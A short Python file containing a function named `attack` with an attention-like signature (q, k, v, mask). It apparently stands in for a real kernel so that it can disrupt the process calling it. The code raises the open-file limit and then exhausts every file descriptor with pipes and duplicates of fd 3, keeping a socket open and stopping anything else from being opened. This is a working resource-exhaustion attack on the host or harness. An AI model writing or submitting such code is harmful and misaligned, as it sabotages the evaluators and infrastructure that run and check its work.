"""Uses up all descriptors by pipes and duplicates of fd 3, so that the socket stays open and nothing can be opened any more."""
import os, resource
held = []
def attack(q, k, v, mask):
    try:
        hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    except (OSError, ValueError) as e:
        print(e)
    try:
        for _ in range(40000):
            held.append(os.dup(3))
            held.extend(os.pipe())
    except OSError as e:
        print("descriptors", len(held), e)
